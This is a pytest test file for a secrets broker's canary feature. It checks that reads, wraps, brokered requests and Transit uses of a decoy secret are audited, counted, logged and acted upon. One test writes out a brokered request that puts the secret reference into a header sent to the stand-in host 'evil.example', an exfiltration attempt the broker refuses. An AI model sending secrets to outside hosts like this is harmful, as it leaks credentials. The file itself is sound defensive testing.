"""Canary detection (issues 12 and 13): a secret marked ``bridge.canary=true`` trips the watch wherever an agent uses
it: a read with values, a read of references, a wrap, a brokered use (even one refused for its destination), and
Transit by reference. The answer is what any secret's would be; the watch writes an audit record (``outcome:
canary_tripped``), counts a metric, logs at error level and calls the action."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from bridge.audit import AuditLog
from bridge.auth.identity import Identity
from bridge.canary import CanaryWatch
from bridge.keys import CANARY
from tests.broker.conftest import MakeUpstream
from tests.support.reveal import ALICE, USE_KEY, USER, Admin, RevealClient, mcp_tool, structured, unique

ALICE_ID = Identity("alice", "api_key", frozenset({"read"}))


async def test_the_watch_records_counts_logs_and_acts(tmp_path: Path) -> None:
    audit = AuditLog(str(tmp_path / "audit.log"))
    audit.open()
    counted: list[tuple[str, str]] = []
    acted: list[tuple[str, str, str]] = []

    async def action(agent: str, path: str, how: str) -> None:
        acted.append((agent, path, how))

    watch = CanaryWatch(audit, count=lambda op, how: counted.append((op, how)), action=action)
    with capture_logs() as logs:
        await watch.trip(ALICE_ID, operation="kv_read", path="app/decoy", how="read")
    record = json.loads((tmp_path / "audit.log").read_text())
    assert record["outcome"] == "canary_tripped"
    assert (record["agent"], record["operation"], record["path"], record["how"]) == ("alice", "kv_read", "app/decoy",
                                                                                     "read")
    assert counted == [("kv_read", "read")]
    assert acted == [("alice", "app/decoy", "read")]
    assert logs[0]["event"] == "canary.tripped"
    assert logs[0]["log_level"] == "error"
    assert watch.trips == 1


async def test_a_failing_action_or_audit_changes_nothing(tmp_path: Path) -> None:
    async def broken(agent: str, path: str, how: str) -> None:
        raise RuntimeError("quarantine down")

    target = tmp_path / "audit.log"
    audit = AuditLog(str(target))
    audit.open()
    assert audit._fd is not None
    os.close(audit._fd)
    audit._fd = os.open(target, os.O_RDONLY)  # every write now fails (as on a full or read-only disk)
    watch = CanaryWatch(audit, action=broken)
    with capture_logs() as logs:
        await watch.trip(ALICE_ID, operation="http_request", path="x", how="broker")  # returns normally
    events = [e["event"] for e in logs]
    assert "canary.tripped" in events
    assert "canary.action_failed" in events
    assert "audit.write_failed" in events
    audit.close()
    quiet = CanaryWatch()  # no audit, no metric, no action: still logs
    with capture_logs() as logs:
        await quiet.trip(ALICE_ID, operation="kv_read", path="x", how="wrap")
    assert [e["event"] for e in logs] == ["canary.tripped"]


@pytest.mark.integration
async def test_every_place_a_value_is_used_trips_the_canary(reveal_client: RevealClient, admin: Admin,
                                                            make_upstream: MakeUpstream, tmp_path: Path) -> None:
    audit_log = tmp_path / "audit.log"
    acted: list[tuple[str, str, str]] = []

    async def action(agent: str, path: str, how: str) -> None:
        acted.append((agent, path, how))

    client = await reveal_client(app_kwargs={"canary_action": action}, audit_log=str(audit_log))
    upstream = await make_upstream()
    decoy, plain = unique("aws-root"), unique("plain")
    for path in (decoy, plain):
        await admin.write(path, {"key": "AKIA-canary-value"})
        await admin.policy(path, allowed_hosts=f"127.0.0.1:{upstream.port}")
    await admin.policy(decoy, canary="true")

    async def uses(path: str) -> list[Any]:
        """Every use of ``path``; the answers, with what differs between any two secrets taken out."""
        answers: list[Any] = []
        ref = f"secret://{path}#key"
        for headers, query in ((ALICE, {}), (USER, {}), (USER, {"wrap_ttl": "30s"})):
            resp = await client.get(f"/secrets/{path}", params=query, headers=headers)
            answers.append((resp.status, sorted(await resp.json())))
        resp = await client.post("/broker/http", headers=USER, json={
            "method": "GET", "url": f"http://127.0.0.1:{upstream.port}/echo", "headers": {"X-Token": f"{{{{{ref}}}}}"}})
        answers.append((resp.status, (await resp.json())["status"]))
        resp = await client.post("/broker/http", headers=USER, json={  # refused for its destination: still a use
            "method": "GET", "url": "https://evil.example/", "headers": {"X-Token": f"{{{{{ref}}}}}"}})
        answers.append((resp.status, (await resp.json())["error"]["code"]))
        resp = await client.post("/transit/hmac", headers=USER, json={"key": "k", "input_ref": ref})
        answers.append((resp.status, sorted(await resp.json())))
        result = structured(await mcp_tool(client, USE_KEY, "kv_read", {"path": path}))
        answers.append(sorted(result))
        resp = await client.get(f"/secrets/{path}:metadata", headers=ALICE)  # no value used: no trip
        answers.append((resp.status, (await resp.json())["custom_metadata"]))
        return answers

    assert acted == []
    with capture_logs() as logs:
        plain_answers = await uses(plain)
        assert acted == []
        decoy_answers = await uses(decoy)
    assert decoy_answers == plain_answers  # a canary answers as any secret does
    hows = ["read", "reference", "wrap", "broker", "broker", "transit", "reference"]
    assert acted == [("alice", decoy, how) for how in hows]
    tripped = [e for e in logs if e["event"] == "canary.tripped"]
    assert [e["how"] for e in tripped] == hows
    assert all(e["log_level"] == "error" and e["path"] == decoy for e in tripped)

    records = [json.loads(line) for line in audit_log.read_text().splitlines()]
    trips = [r for r in records if r["outcome"] == "canary_tripped"]
    assert [(r["operation"], r["how"]) for r in trips] == [
        ("kv_read", "read"), ("kv_read", "reference"), ("kv_read", "wrap"), ("http_request", "broker"),
        ("http_request", "broker"), ("transit_hmac", "transit"), ("kv_read", "reference")]
    assert all(r["path"] == decoy and r["agent"] == "alice" for r in trips)
    assert "AKIA-canary-value" not in audit_log.read_text()

    metrics = await (await client.get("/metrics")).text()
    counts = dict(re.findall(r'bridge_canary_trips_total\{how="(\w+)",operation="(\w+)"\} 1\.0', metrics))
    assert counts == {"read": "kv_read", "wrap": "kv_read", "transit": "transit_hmac"}
    assert 'bridge_canary_trips_total{how="broker",operation="http_request"} 2.0' in metrics
    assert 'bridge_canary_trips_total{how="reference",operation="kv_read"} 2.0' in metrics
    assert client.app[CANARY].trips == len(hows)

    # a wrap refused because the canary is also bridge.reveal=never still trips (the refusal is any such secret's)
    await admin.policy(decoy, reveal="never")
    resp = await client.get(f"/secrets/{decoy}", params={"wrap_ttl": "30s"}, headers=USER)
    assert (await resp.json())["error"]["code"] == "secret_not_revealable"
    assert acted[-1] == ("alice", decoy, "wrap")
